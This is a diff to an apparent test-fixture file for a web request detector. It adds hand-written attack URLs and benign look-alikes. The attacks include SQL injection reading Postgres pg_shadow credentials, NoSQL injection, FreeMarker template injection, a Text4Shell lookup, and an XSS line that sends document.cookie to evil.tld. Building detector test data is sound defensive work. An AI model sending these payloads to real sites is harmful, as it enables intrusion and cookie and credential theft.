@@ -393,6 +393,20 @@ export const ATTACKS_BY_HAND: readonly HandWritten[] = [
     body: '[{"query":"{__schema{types{name}}}"},{"query":"{__schema{types{name}}}"}]',
     mime: 'application/json',
   },
+  { name: 'sqli catalogue of db2', url: '/x?q=select versionnumber, version_timestamp from sysibm.sysversions;' },
+  { name: 'sqli shadow of postgres', url: "/x?id=' union select null,usename,passwd from pg_shadow--" },
+  { name: 'sqli statement in hex', url: '/x?id=declare @q varchar(200) select @q = 0x77616974666f72 exec(@q)' },
+  { name: 'sqli openrowset', url: "/x?q=select * from openrowset('sqloledb','server';'sa';'pw','select 1')" },
+  { name: 'sqli folder of postgres', url: "/x?id=1; select pg_ls_dir('.')" },
+  { name: 'sqli term that waits', url: '/x?id=1-sleep(5)' },
+  { name: 'nosql negation alone', url: '/x?user={ $ne: 1 }' },
+  { name: 'nosql loop', url: "/x?user=a';it=new Date();do{pt=new Date();}while(pt-it<5000);'" },
+  { name: 'xss binding', url: '/x?q=<div style="-moz-binding:url(http://evil.tld/x.xml%23x)">' },
+  { name: 'xss time of old browsers', url: '/x?q=<?import namespace="t" implementation="%23default%23time2">' },
+  { name: 'xss cookies in an address', url: "/x?q=new Image().src='//evil.tld/?'%2Bdocument.cookie" },
+  { name: 'ssti freemarker assign', url: '/x?q=<%23assign ex="freemarker.template.utility.Execute"?new()>' },
+  { name: 'text4shell', url: '/x?q=${url:UTF-8:http://evil.tld}' },
+  { name: 'command by its path', url: '/x?file=/bin/ls -la' },
 ];
 
 export const HARMLESS_BY_HAND: readonly HandWritten[] = [
@@ -836,4 +850,9 @@ export const HARMLESS_BY_HAND: readonly HandWritten[] = [
     body: '{"native":{"query":"select count(*) from orders where created_at > now() - interval \'1 day\'"},"type":"native"}',
     mime: 'application/json',
   },
+  { name: 'filter of a document store', url: '/api/orders?filter={"status":{"$ne":"done"}}' },
+  { name: 'shell of an account', url: '/api/users?shell=/bin/bash' },
+  { name: 'somebody asks about execute immediate', url: '/forum/search?q=how do I use execute immediate in a loop' },
+  { name: 'term of a sum', url: '/search?q=5-max(2)' },
+  { name: 'style for an old browser', url: '/docs?q=what does behavior url(PIE.htc) do in css' },
 ];
